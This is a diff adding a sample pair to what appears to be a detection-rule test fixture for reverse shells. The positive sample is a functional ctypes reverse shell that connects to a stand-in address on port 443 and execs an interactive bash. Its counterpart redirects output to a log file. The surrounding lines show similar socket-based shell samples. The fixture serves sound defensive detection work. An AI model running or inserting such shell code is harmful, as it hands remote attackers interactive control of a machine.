@@ -1031,6 +1031,15 @@ SHAPE_RULE_PAIRS = [
      "pty.spawn('/bin/bash')",
      "import os, pty\nfrom functools import partial\nlog = open('session.log', 'w')\nfd = log.fileno()\n"
      "list(map(partial(os.dup2, fd), (1, 2)))\npty.spawn('/bin/bash')"),
+    ("a reverse shell written against the C library through ctypes (socket, connect, dup2, execve); the same "
+     "calls wiring a log file opened through libc are not", "remote_desktop_ssh.reverse-shell",
+     "import ctypes, struct\nlibc = ctypes.CDLL(None)\nfd = libc.socket(2, 1, 0)\n"
+     "sa = struct.pack('<H', 2) + struct.pack('>H', 443) + bytes([203, 0, 113, 77]) + bytes(8)\n"
+     "libc.connect(fd, sa, len(sa))\nfor n in (0, 1, 2):\n    libc.dup2(fd, n)\n"
+     "libc.execve(b'/bin/bash', (ctypes.c_char_p * 3)(b'/bin/bash', b'-i', None), None)",
+     "import ctypes\nlibc = ctypes.CDLL(None)\nfd = libc.open(b'run.log', 0o1101, 0o644)\n"
+     "for n in (1, 2):\n    libc.dup2(fd, n)\n"
+     "libc.execve(b'/bin/bash', (ctypes.c_char_p * 3)(b'/bin/bash', b'train.sh', None), None)"),
     ("a shell's path spelled with os.sep and os.path.join is still a shell; the same wiring to a log file is "
      "not a remote shell", "remote_desktop_ssh.reverse-shell",
      "import socket, os, pty, functools\ns = socket.socket()\ns.connect(('203.0.113.71', 443))\n"
